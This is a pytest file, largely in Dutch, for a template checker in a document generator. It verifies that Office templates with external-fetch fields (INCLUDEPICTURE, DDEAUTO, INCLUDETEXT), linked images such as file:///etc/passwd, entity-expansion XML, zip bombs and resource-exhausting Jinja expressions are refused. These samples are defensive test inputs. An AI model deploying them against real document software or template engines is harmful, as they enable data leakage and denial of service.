        (
            "word/document.xml",
            f'<w:p xmlns:w="{_W}"><w:r><w:instrText>&#73;NCLUDEPICTURE "http://x/a.png"</w:instrText></w:r></w:p>',
            _VELD,
        ),
        (
            "word/footer1.xml",
            f'<x:ftr xmlns:x="{_W}"><x:r><x:instrText>INCLUDE<!-- -->PICTURE "http://x/a.png"</x:instrText></x:r></x:ftr>',
            _VELD,
        ),
        (
            "word/document.xml",
            f'<w:p xmlns:w="{_W}"><w:instrText><![CDATA[INCLUDEPICTURE "http://x/a.png"]]></w:instrText></w:p>',
            _VELD,
        ),
        (
            "word/document.xml",
            f"<w:p xmlns:w='{_W}'><w:fldSimple w:instr='DDEAUTO x y'/></w:p>",
            "een veld DDEAUTO dat iets van buiten het bestand haalt",
        ),
        (
            "word/hoofdtekst.bin",
            f'<w:document xmlns:w="{_W}"><w:instrText>INCLUDETEXT "c:/geheim.docx"</w:instrText></w:document>',
            "een veld INCLUDETEXT dat iets van buiten het bestand haalt",
        ),
        (
            "word/header1.xml",
            '<w:hdr xmlns:w="w" xmlns:v="v" xmlns:o="o"><v:imagedata o:href="&#102;ile:///C:/a.png"/></w:hdr>',
            "iets buiten het bestand ('file:///C:/a.png')",
        ),
        (
            "word/media/a.svg",
            "<svg><rect style='fill:URL(http://x/a)'/></svg>",
            "een afbeelding die iets van buiten het bestand haalt",
        ),
        (
            "word/media/b.svg",
            "<svg><rect style='fill:&#117;rl(//x/a)'/></svg>",
            "een afbeelding die iets van buiten het bestand haalt",
        ),
        ("word/media/c.svg", "<svg><rect style='fill:url(#verloop)'/></svg>", None),
        ("word/document.xml", f'<w:p xmlns:w="{_W}"><w:t>zie url(http://x) of LINK</w:t></w:p>', None),
        (
            "word/settings.xml",
            f'<w:settings xmlns:w="{_W}"><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>',
            "een samenvoeging met een gegevensbron (Word's mail merge)",
        ),
        (
            "word/x.xml",
            '<?xml-stylesheet type="text/xsl" href="http://x/s.xsl"?><a/>',
            "iets buiten het bestand ('http://x/s.xsl')",
        ),
        (
            "word/media/d.svg",
            "<svg><image href='data:image/png;base64,AAAA'/><rect style='fill: url( #g )'/></svg>",
            None,
        ),
    ],
    ids=[
        "paginanummer",
        "tekenverwijzing",
        "ander-voorvoegsel-en-commentaar",
        "cdata",
        "fldsimple-enkele-aanhalingstekens",
        "deel-met-een-andere-naam",
        "adres-met-tekenverwijzing",
        "svg-URL",
        "svg-url-met-tekenverwijzing",
        "svg-binnen",
        "gewone-tekst",
        "samenvoeging",
        "stijlblad",
        "svg-met-data-en-verloop",
    ],
)
@pytest.mark.parametrize("codering", ["utf-8", "utf-16", "utf-16-le", "utf-32", "utf-32-be"])
def test_velden_en_adressen_zoals_word_ze_leest(deel, xml, wat, codering):
    """A field or address is found however the XML writes it (a character reference, another
    namespace prefix, a comment or CDATA inside, either quotes, UTF-16, a part whose name does
    not end in .xml), as Word reads it; a page number, a link inside the picture and text that
    merely mentions url( or LINK are not."""
    assert _buiten({deel: xml.encode(codering)}) == (None if wat is None else (deel, wat))


def _veld(code: str, soort: str = "instrText") -> str:
    """A complex field with this code (begin, code, separate, result, end)."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:{soort}>{code}</w:{soort}></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


@pytest.mark.parametrize(
    ("xml", "wat"),
    [
        (_veld("PAGE") + _veld('INCLUDEPICTURE "\\\\s\\a.png" \\d'), _VELD),
        (_veld("PAGE") + _veld('RD "c:/a.docx"'), "een veld RD dat iets van buiten het bestand haalt"),
        (_veld('INCLUDEPICTURE "http://x/a.png"', "delInstrText"), _VELD),
        (_veld('INCLUDETEXT "c:/a.docx"', "t"), "een veld INCLUDETEXT dat iets van buiten het bestand haalt"),
        (_veld('HYPERLINK \\l "kop"') + _veld("PAGEREF kop"), None),
        (_veld('HYPERLINK "https://www.rivm.nl" \\o "Link naar het RIVM"'), None),
        (_veld('HYPERLINK "tel:+31301234567"'), None),
        (_veld("REF Linkerkolom") + _veld('FILLIN "Welke link?"'), None),
        ("<w:r><w:t>src=\"https://www.rivm.nl\" en href='x:y'</w:t></w:r>", None),
        (
            '<w:r><w:pict><v:imagedata xmlns:v="v" o:href="/\\s\\a.png" xmlns:o="o"/></w:pict></w:r>',
            "iets buiten het bestand ('/\\s\\a.png')",
        ),
    ],
    ids=[
        "twee-velden-na-elkaar",
        "rd-als-tweede-veld",
        "verwijderde-instructie",
        "code-als-tekst",
        "koppeling-naar-een-bladwijzer",
        "koppeling-met-scherminfo",
        "telefoonnummer",
        "woord-link-in-een-ander-veld",
        "tekst-die-op-een-attribuut-lijkt",
        "netwerkpad-met-schuine-strepen",
    ],
)
def test_elk_veld_op_zich(xml, wat):
    """Each field is read on its own, as Word reads it (two fields one after the other are not
    one code), including deleted instructions and plain text where the code belongs; only a
    field's first word names what it does, so a tooltip, a bookmark or a merge field that
    mentions 'link' is no LINK field, and text that looks like an attribute is text."""
    assert _buiten({"word/document.xml": _document(xml)}) == (None if wat is None else ("word/document.xml", wat))


_MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"


@pytest.mark.parametrize(
    ("xml", "wat"),
    [
        (  # the type of the outer field is the result of a nested one (QUOTE with character codes)
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + _veld("QUOTE 73 78 67") + "<w:r><w:instrText>"
            ' "\\\\s\\a.png"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
            "een veld waarvan een ander veld de soort maakt",
        ),
        (  # text before the code that Word leaves out (the branch of AlternateContent it does not take)
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<mc:AlternateContent xmlns:mc="{_MC}"><mc:Choice Requires="w14"><w:r><w:instrText>X</w:instrText></w:r>'
            "</mc:Choice><mc:Fallback/></mc:AlternateContent>"
            '<w:r><w:instrText>INCLUDEPICTURE "\\\\s\\a.png"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
            _VELD,
        ),
        (  # or in a deleted instruction, or in a text box inside the code
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>X</w:delInstrText></w:r>'
            "<w:r><w:pict><w:txbxContent><w:p><w:r><w:t>Y</w:t></w:r></w:p></w:txbxContent></w:pict></w:r>"
            '<w:r><w:instrText>INCLUDEPICTURE "\\\\s\\a.png"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
            _VELD,
        ),
        (  # an ordinary nested field (IF around a merge field) is no such thing
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>'
            + _veld("PAGE")
            + '<w:r><w:instrText> = 1 "een" "meer"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
            None,
        ),
    ],
    ids=[
        "soort-uit-een-ander-veld",
        "voorvoegsel-in-een-andere-tak",
        "voorvoegsel-verwijderd-en-in-tekstvak",
        "gewoon-genest",
    ],
)
def test_veldcode_zoals_word_hem_leest(xml, wat):
    """Text Word does not read as code (another branch, a deleted instruction, a text box) does
    not hide the field's type from the check, and a field whose type another field makes is
    refused."""
    assert _buiten({"word/document.xml": _document(xml)}) == (None if wat is None else ("word/document.xml", wat))


@pytest.mark.parametrize(
    ("deel", "inhoud", "melding"),
    [
        (
            "word/Document.xml",
            f'<w:document xmlns:w="{_W}"/>'.encode(),
            "twee delen met dezelfde naam (word/Document.xml)",
        ),
        (
            "word/extra.xml",
            b'<w:p xmlns:w="w"><w:instrText>PAGE</w:p>',
            "een deel dat niet als XML te lezen is (word/extra.xml)",
        ),
        (
            "word/extra.xml",
            "<a href='x'/>".encode("utf-16") + b"\x00",
            "een deel dat niet als XML te lezen is (word/extra.xml)",
        ),
        (
            "word/_rels/extra.xml.rels",
            b'<?xml version="1.0" encoding="x-onbekend"?><Relationships/>',
            "een deel dat niet als XML te lezen is (word/_rels/extra.xml.rels)",
        ),
    ],
    ids=["naam-in-hoofdletters", "geen-xml", "utf16-met-een-byte-te-veel", "onbekende-codering"],
)
def test_wat_de_controle_niet_kan_lezen_wordt_geweigerd(tmp_path, deel, inhoud, melding):
    """What the check cannot read as Word and LibreOffice do (a second part whose name differs
    only in case, XML that does not parse or decode) is refused with one sentence, never a
    traceback: what it cannot read, it cannot pass."""
    import zipfile

    from generator.fouten import SjabloonFout
    from generator.pakket import controleer_pakket

    sjabloon = tmp_path / "uitnodiging.docx"
    docx.Document().save(sjabloon)
    with zipfile.ZipFile(sjabloon, "a") as zf:
        zf.writestr(deel, inhoud)
    with pytest.raises(SjabloonFout) as fout:
        controleer_pakket(sjabloon)
    assert str(fout.value) == f"Sjabloon 'uitnodiging.docx' bevat {melding}; zo'n sjabloon wordt niet gebruikt."


_BLIP = "http://schemas.openxmlformats.org/drawingml/2006/main"
_LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


@pytest.mark.parametrize(
    ("rels", "document", "wat"),
    [
        (  # a link to a web page, used as a link: allowed
            f'<Relationship Id="rId9" Type="{_LINK}" Target="https://www.rivm.nl" TargetMode="External"/>',
            f'<w:hyperlink xmlns:r="{_R}" r:id="rId9"><w:r><w:t>RIVM</w:t></w:r></w:hyperlink>',
            None,
        ),
        (  # the same relationship, used as a linked picture: LibreOffice fetches it
            f'<Relationship Id="rId9" Type="{_LINK}" Target="http://x/a.png" TargetMode="External"/>',
            f'<a:blip xmlns:a="{_BLIP}" xmlns:r="{_R}" r:link="rId9"/>',
            "iets buiten het bestand ('http://x/a.png')",
        ),
        (  # a document read in when Word opens it (altChunk): no XML to check, so refused
            '<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk"'
            ' Target="chunk.htm"/>',
            f'<w:altChunk xmlns:r="{_R}" r:id="rId8"/>',
            "een ingevoegd document ('chunk.htm') dat Word bij het openen inleest",
        ),
    ],
    ids=["koppeling", "koppeling-als-afbeelding", "altchunk"],
)
@pytest.mark.parametrize("relsnaam", ["word/_rels/document.xml.rels", "word/_rels/document.xml.RELS"])
def test_relaties_naar_wat_ernaar_verwijst(rels, document, wat, relsnaam):
    relaties = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>'
    )
    assert _buiten({"word/document.xml": _document(document), relsnaam: relaties}) == (
        None if wat is None else ("word/document.xml", wat)
    )


@pytest.mark.parametrize(("veld", "wat"), [("PAGE", None), ('INCLUDEPICTURE "http://x/a.png"', _VELD)])
def test_deel_in_utf16_met_declaratie(veld, wat):
    """A part in UTF-16 that says so in its XML declaration, as Word may write it, is read as
    XML: a field is found, and a word like LINK in its text is no field."""
    xml = (
        f'<?xml version="1.0" encoding="UTF-16" standalone="yes"?><w:document xmlns:w="{_W}"><w:p>'
        f"<w:r><w:instrText>{veld}</w:instrText></w:r><w:r><w:t>LINK en DDE</w:t></w:r></w:p></w:document>"
    )
    assert _buiten({"word/document.xml": xml.encode("utf-16")}) == (None if wat is None else ("word/document.xml", wat))


def test_hoofdtekst_onder_een_andere_naam(voorbeeld, tmp_path):
    """A Word template whose main part is not called document.xml (the package says where it
    is) is checked all the same: its INCLUDEPICTURE field is refused, naming that part."""
    import re
    import zipfile

    gewoon = kwaad_word(tmp_path / "gewoon.docx", "http://127.0.0.1:9", ("veld",))
    eigen = tmp_path / "eigen"
    eigen.mkdir()
    with zipfile.ZipFile(gewoon) as bron, zipfile.ZipFile(eigen / "bestuurlijke-notitie.docx", "w") as doel:
        for lid in bron.infolist():
            data = bron.read(lid)
            naam = lid.filename.replace("document.xml", "hoofdtekst.bin")
            if lid.filename in ("[Content_Types].xml", "_rels/.rels"):
                data = re.sub(rb"word/document\.xml", b"word/hoofdtekst.bin", data)
            doel.writestr(naam, data)
    assert docx.Document(eigen / "bestuurlijke-notitie.docx").paragraphs[0].text == "Gewone tekst"  # Word's reading
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert (
        resultaat.output.strip()
        .splitlines()[-1]
        .startswith(f"Sjabloon 'bestuurlijke-notitie.docx' verwijst in het document (word/hoofdtekst.bin) naar {_VELD}")
    )


def test_word_sjabloon_met_koppeling_naar_een_webpagina_mag(voorbeeld, tmp_path):
    eigen = tmp_path / "eigen"
    kwaad_word(eigen / "uitnodiging.docx", "", ("web",), tekst="Beste {{ aanhef }}")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 0, resultaat.output
    brief = next((tmp_path / "uit").rglob("uitnodigingen/**/*.docx"))
    doc = docx.Document(brief)
    assert [r.target_ref for r in doc.part.rels.values() if r.is_external] == ["https://www.rivm.nl/hitte"]


def test_veld_uit_stukken_in_het_ingevulde_document(voorbeeld, tmp_path):
    """A template that composes the field code from pieces passes the check of the template;
    the finished document is checked as well."""
    from docx.oxml import parse_xml

    eigen = tmp_path / "eigen"
    eigen.mkdir()
    doc = docx.Document()
    doc.add_paragraph()._p.append(
        parse_xml(  # noqa: SLF001
            f'<w:r xmlns:w="{_W}"><w:fldChar w:fldCharType="begin"/></w:r>'
        )
    )
    doc.paragraphs[0]._p.append(
        parse_xml(  # noqa: SLF001
            f'<w:r xmlns:w="{_W}"><w:instrText>{{{{ "INCLUDE" }}}}PICTURE "http://127.0.0.1:9/x.png"</w:instrText></w:r>'
        )
    )
    doc.paragraphs[0]._p.append(
        parse_xml(  # noqa: SLF001
            f'<w:r xmlns:w="{_W}"><w:fldChar w:fldCharType="end"/></w:r>'
        )
    )
    doc.save(eigen / "bestuurlijke-notitie.docx")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert resultaat.output.strip().splitlines()[-1] == (
        "Sjabloon 'bestuurlijke-notitie.docx': het ingevulde document verwijst in de tekst (word/document.xml) naar "
        "een veld INCLUDEPICTURE dat iets van buiten het bestand haalt; zo'n document wordt niet gemaakt."
    )


def test_basispresentatie_met_gekoppelde_afbeelding_in_een_indeling(voorbeeld, tmp_path):
    from pptx import Presentation
    from pptx.opc.constants import RELATIONSHIP_TYPE as RT

    eigen = tmp_path / "eigen"
    eigen.mkdir()
    prs = Presentation(standaard_sjablonen() / "presentatie-startbijeenkomst.pptx")
    prs.slide_layouts[3].part.relate_to("file:///etc/passwd", RT.IMAGE, is_external=True)
    prs.save(eigen / "presentatie-startbijeenkomst.pptx")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.exit_code == 1
    assert (
        resultaat.output.strip()
        .splitlines()[-1]
        .startswith(
            "Sjabloon 'presentatie-startbijeenkomst.pptx' verwijst in dia-indeling 4 "
            "(ppt/slideLayouts/slideLayout4.xml) "
            "naar een gekoppelde afbeelding buiten het bestand ('file:///etc/passwd')"
        )
    )


@pytest.mark.extern
def test_libreoffice_haalt_niets_op_bij_pdf(tmp_path):
    """Defence in depth: even a document that points outside itself in every way (the
    templates are refused before, see above) makes LibreOffice fetch nothing while it makes
    the PDF: the stand-in server counts zero requests."""
    from generator.pdf import maak_pdfs
    from tests.conftest import hulpmiddel

    hulpmiddel("soffice")
    teller = Teller()
    try:
        document = kwaad_word(tmp_path / "document.docx", teller.adres)
        pdfs = maak_pdfs([document], tmp_path / "werk")
    finally:
        teller.sluit()
    assert pdfs[0] is not None and pdfs[0].read_bytes().startswith(b"%PDF")
    assert teller.verzoeken == []


# -- 13. a template package gets the workbook's checks (issue 24, 2) ---------------------------
def _met_deel(bron: Path, doel: Path, naam: str, schrijf) -> Path:
    """A copy of the package ``bron`` with one more part ``naam``, written by ``schrijf(fh)``."""
    import shutil
    import zipfile

    doel.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(bron, doel)
    with zipfile.ZipFile(doel, "a", compression=zipfile.ZIP_DEFLATED) as zf, zf.open(naam, "w", force_zip64=True) as fh:
        schrijf(fh)
    return doel


def _nullen(megabytes: int):
    def schrijf(fh):
        blok = bytes(1024 * 1024)
        for _ in range(megabytes):
            fh.write(blok)

    return schrijf


@pytest.mark.parametrize(
    ("naam", "deel", "schrijf", "melding"),
    [
        (
            "bestuurlijke-notitie.docx",
            "word/media/groot.bin",
            _nullen(8),
            "Sjabloon 'bestuurlijke-notitie.docx' is verdacht sterk ingepakt (meer dan 100 keer, in "
            "word/media/groot.bin); "
            "zo'n sjabloon wordt niet gebruikt.",
        ),
        (
            "presentatie-startbijeenkomst.pptx",
            "ppt/media/groot.bin",
            _nullen(8),
            "Sjabloon 'presentatie-startbijeenkomst.pptx' is verdacht sterk ingepakt (meer dan 100 keer, in "
            "ppt/media/groot.bin); zo'n sjabloon wordt niet gebruikt.",
        ),
        (
            "uitnodiging.docx",
            "word/bom.xml",
            lambda fh: fh.write(b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'),
            "Sjabloon 'uitnodiging.docx' bevat XML met een eigen DTD of entiteiten (word/bom.xml); zo'n "
            "sjabloon wordt niet "
            "gebruikt.",
        ),
        (  # by its content, whatever its name and encoding
            "uitnodiging.docx",
            "word/extra.bin",
            lambda fh: fh.write('<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'.encode("utf-16")),
            "Sjabloon 'uitnodiging.docx' bevat XML met een eigen DTD of entiteiten (word/extra.bin); zo'n "
            "sjabloon wordt niet gebruikt.",
        ),
    ],
)
def test_sjabloonpakket_als_een_werkboek_gecontroleerd(voorbeeld, tmp_path, naam, deel, schrijf, melding):
    """A template holding a part that unpacks to gigabytes cost 28 s and 6.4 GB before it was
    refused (a .pptx ended in the generic message): now refused before anything opens it."""
    eigen = tmp_path / "eigen"
    _met_deel(standaard_sjablonen() / naam, eigen / naam, deel, schrijf)
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (1, melding)


def test_sjabloonpakket_met_te_veel_delen_of_te_groot(voorbeeld, tmp_path):
    import zipfile

    eigen = tmp_path / "eigen"
    doel = _met_deel(
        standaard_sjablonen() / "canvas-fase-2.docx", eigen / "canvas-fase-2.docx", "word/leeg0.txt", lambda fh: None
    )
    with zipfile.ZipFile(doel, "a") as zf:
        for i in range(1, 2001):
            zf.writestr(f"word/leeg{i}.txt", b"")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert resultaat.output.strip().splitlines()[-1] == (
        "Sjabloon 'canvas-fase-2.docx' bestaat uit meer dan 2000 delen; zo'n sjabloon wordt niet gebruikt."
    )
    with open(doel, "r+b") as fh:
        fh.truncate(51 * 1024 * 1024)
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1,
        "Sjabloon 'canvas-fase-2.docx' is 51 MB, meer dan 50 MB; zo'n sjabloon wordt niet gebruikt.",
    )


# -- 14. template work bounded by construction (issue 24, 3) -----------------------------------
_A = "{% set a = 'x' * 19999999 %}{% set b = 'x' * 19999998 ~ 'y' %}"
_VERDUBBELD = (
    "{% set ns = namespace(y='x' * 1000, z='x' * 1000) %}{% for i in range(40) %}{% set ns.y = [ns.y, ns.y] %}"
    "{% set ns.z = [ns.z, ns.z] %}{% endfor %}"
)
BEGRENSD = [
    (_A + "{{ b in [a] * 19999999 }}", "een herhaling die te lang wordt"),
    ("{{ '%*s' % (1900000000, 'x') }}", "een breedte die te groot is"),
    ("{{ '%.1900000000f' % 1.5 }}", "een breedte die te groot is"),
    ("{% set a = 'x' * 15000000 %}{{ (a ~ a)|length }}", "een tekst of lijst die te groot wordt"),
    ("{% set a = 'x' * 15000000 %}{{ [a, a]|join|length }}", "een tekst of lijst die te groot wordt"),
    ("{% set a = 'x' * 15000000 %}{{ ([a] * 50)|join|length }}", "een herhaling die te lang wordt"),
    ("{% set a = 'x' * 1000000 %}{{ (['x'] * 100)|join(a)|length }}", "een tekst of lijst die te groot wordt"),
    ("{% set a = 'x' * 10000000 %}{{ [a, a, a]|map('upper')|join|length }}", "een tekst of lijst die te groot wordt"),
    ("{{ ('x' * 100)|replace('', 'y' * 1000000)|length }}", "een tekst of lijst die te groot wordt"),
    ("{{ ('x' * 10000000).replace('x', 'yy')|length }}", "een tekst of lijst die te groot wordt"),
    ("{% set a = 'x' * 10000000 %}{{ ','.join([a, a, a])|length }}", "een tekst of lijst die te groot wordt"),
    (
        "{{ ('x'|indent('y' * 10000000, true) * 1)|length }}{{ (('x\n' * 5)|indent('y' * 5000000))|length }}",
        "een tekst of lijst die te groot wordt",
    ),
    ("{{ [1]|batch(1000000000, 'x')|list|length }}", "een |batch die te groot is"),
    ("{{ [1]|slice(1000000000, 'x')|list|length }}", "een |slice die te groot is"),
    ("{{ lipsum(1000000000)|length }}", "een breedte die te groot is"),
    ("{{ ([[1]] * 1000000)|sum(start=[])|length }}", "een |sum die te groot wordt"),
    (_VERDUBBELD + "{{ ns.y == ns.z }}", "een vergelijking van twee te grote waarden"),
    (_VERDUBBELD + "{{ ns.y in [ns.z] }}", "een vergelijking met een te lange lijst"),
    (_VERDUBBELD + "{{ ns.y is in [ns.z, 1] }}", "een vergelijking met een te lange lijst"),
    (_VERDUBBELD + "{{ ns.y }}", "een tekst of lijst die te groot wordt"),
    (_VERDUBBELD + "{{ ns.y|string|length }}", "een tekst of lijst die te groot wordt"),
    (_VERDUBBELD + "{{ (ns.y ~ '')|length }}", "een tekst of lijst die te groot wordt"),
    (_VERDUBBELD + "{{ ([ns.y] * 2)|length }}", "een herhaling die te lang wordt"),
    (_VERDUBBELD + "{{ ('%s' % ns.y)|length }}", "een tekst of lijst die te groot wordt"),
    ("{{ notitie.datum.today() }}", "de methode .today() kan in een sjabloon niet"),
    ("{{ notitie.datum.fromtimestamp(0) }}", "de methode .fromtimestamp() kan in een sjabloon niet"),
    ("{{ {}.fromkeys(range(10)) }}", "de methode .fromkeys() kan in een sjabloon niet"),
    ("{{ 'x'.encode() }}", "de methode .encode() kan in een sjabloon niet"),
]


@pytest.mark.parametrize(("bron", "wat"), BEGRENSD)
def test_sjabloonwerk_begrensd_voordat_het_gebeurt(monkeypatch, bron, wat):
    """Each payload was one uninterruptible C call (11 hours for the first), or a text of
    0.4-1.9 GB that only Linux's memory cap stopped, or a read of the clock. With the memory
    cap switched off (as on Windows and macOS), each is refused before it runs, naming the
    template and what was too large."""
    from generator import sjabloon
    from generator.fouten import SjabloonFout

    monkeypatch.setattr(bewaking, "_geheugengrens", lambda: None)  # as on Windows and macOS
    import datetime as dt

    with pytest.raises(SjabloonFout) as fout:
        sjabloon.render_tekst("eigen.toml", "tekst", bron, {"notitie": {"datum": dt.date(2026, 6, 1)}})
    assert str(fout.value) == f"Sjabloon 'eigen.toml', tekst: {wat}." or str(fout.value).startswith(
        f"Sjabloon 'eigen.toml', tekst: {wat} ("
    ), str(fout.value)


def test_sjabloonwerk_begrensd_in_een_word_sjabloon(voorbeeld, tmp_path, monkeypatch):

    monkeypatch.setattr(bewaking, "_geheugengrens", lambda: None)  # as on Windows and macOS
    eigen = _sjabloon(tmp_path / "eigen", "Start: {{ alg.start_fase2 }}", "{{ alg.start_fase2.today() }}")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (resultaat.exit_code, resultaat.output.strip().splitlines()[-1]) == (
        1,
        "Sjabloon 'bestuurlijke-notitie.docx': de methode .today() kan in een sjabloon niet (alleen bijvoorbeeld "
        ".upper(), .strip(), .split() en .strftime()) in de alinea '{{ alg.start_fase2.today() }}'.",
    )
    eigen = _sjabloon(tmp_path / "eigen", _A + "{{ b in [a] * 19999999 }}")
    resultaat = bouw(voorbeeld, "-o", tmp_path / "uit", "--sjablonen", eigen)
    assert (
        resultaat.output.strip()
        .splitlines()[-1]
        .startswith("Sjabloon 'bestuurlijke-notitie.docx': een herhaling die te lang wordt in de alinea")
    )


@pytest.mark.parametrize(
    "bron",
    [
        "{{ ('a' * 100)|center(200)|length }}",
        "{{ [1, 2, 3]|sum }}",
        "{{ [(1,), (2,)]|sum(start=())|length }}",
        "{{ 'Een, twee'.split(', ')|join(' en ') }}",
        "{{ 'x' in 'xyz' }}",
        "{{ 2 in [1, 2] and 1 < 2 < 3 }}",
        "{{ notitie.datum.strftime('%d-%m') }} {{ notitie.datum.isoformat() }}",
        "{{ '%5.2f' % 3.14159 }}",
        "{{ {'a': 1}.get('a') }}{{ {'a': 1}.items()|list|length }}",
        "{{ 'abc'.upper() ~ 'd' }}",
        "{{ [3, 1, 2]|sort|join(',') }}",
        "{% for x in range(3) %}{{ loop.cycle('a', 'b') }}{% endfor %}",
    ],
)
def test_gewoon_sjabloonwerk_kan_nog(bron):
    import datetime as dt

    from generator import sjabloon

    assert sjabloon.render_tekst("eigen.toml", "tekst", bron, {"notitie": {"datum": dt.date(2026, 6, 1)}})
